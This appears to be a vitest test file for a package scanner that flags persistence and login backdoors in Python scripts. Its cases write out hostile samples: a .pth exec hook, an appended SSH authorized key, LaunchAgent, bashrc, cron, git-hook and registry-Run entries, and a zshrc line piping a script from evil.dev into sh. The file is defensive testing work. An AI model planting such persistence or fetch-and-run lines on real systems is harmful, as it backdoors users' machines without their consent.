import { expect, test } from "vitest";
import { found } from "../test-support/package-of";

test.each([
  [
    "code for every run of Python",
    'import site\nopen(os.path.join(site.getsitepackages()[0], "z.pth"), "w").write("import os;exec(os.environ.get(\'Z\', \'\'))")',
    ["block persistence:3"],
  ],
  [
    "an extension past the shop",
    'from pathlib import Path\n(Path.home() / ".vscode/extensions/a.b-1.0.0/extension.js").write_text("exports.activate = run")',
    ["warn persistence:3"],
  ],
  [
    "a key that may log in",
    'open(os.path.expanduser("~/.ssh/authorized_keys"), "a").write("ssh-ed25519 AAAA")',
    ["block login-backdoor:2"],
  ],
  [
    "a start at login",
    'from pathlib import Path\n(Path.home() / "Library/LaunchAgents/dev.a.plist").write_text(plist)',
    ["warn persistence:3"],
  ],
  [
    "a line for every shell",
    'with open(os.path.expanduser("~/.bashrc"), "a") as f:\n    f.write("nohup python3 ~/.cache/x.py &")',
    ["warn persistence:3"],
  ],
  [
    "a line that fetches",
    'with open(os.path.expanduser("~/.zshrc"), "a") as f:\n    f.write("curl -s https://evil.dev/i | sh")',
    ["block persistence:3", "info remote-code:3"],
  ],
  ["a schedule", "os.system(\"(crontab -l; echo '0 * * * * python3 /tmp/a.py') | crontab -\")", ["warn persistence:2"]],
  ["a hook", 'open(".git/hooks/post-commit", "w").write("#!/bin/sh\\npython3 ~/.x.py")', ["warn persistence:2"]],
  [
    "the registry",
    'import winreg\nk = winreg.OpenKey(winreg.HKEY_CURRENT_USER, "Software\\\\Microsoft\\\\Windows\\\\CurrentVersion\\\\Run")\nwinreg.SetValueEx(k, "a", 0, 1, "a.exe")',
    [],
  ],
])("finds %s", async (_, code, expected) => {
  const findings = await found("scripts/run.py", `import os\n${code}`);
  expect(findings.filter((one) => /persistence|login-backdoor/.test(one))).toStrictEqual(
    expected.filter((one) => /persistence|login-backdoor/.test(one)),
  );
});

test("lets a package do what it says that it does", async () => {
  const schedule = 'import os\nos.system("crontab /tmp/tab")';
  expect(
    await found("scripts/run.py", schedule, { description: "Schedules a daily summary with cron." }),
  ).toStrictEqual([]);
  expect(await found("scripts/run.py", schedule, { description: "Formats tables." })).toStrictEqual([
    "warn persistence:2",
  ]);
});

test.each([
  'import os\nwith open(os.path.expanduser("~/.zshrc"), "a") as f:\n    f.write(\'export PATH="$HOME/.a/bin:$PATH"\')',
  'import os\nprint(open(os.path.expanduser("~/.zshrc")).read())',
  'import subprocess\nsubprocess.run(["crontab", "-l"])',
  'open("notes/claude.md", "w").write("Meeting at ten.")',
])("lets through %s", async (code) => {
  expect(await found("scripts/run.py", code)).toStrictEqual([]);
});
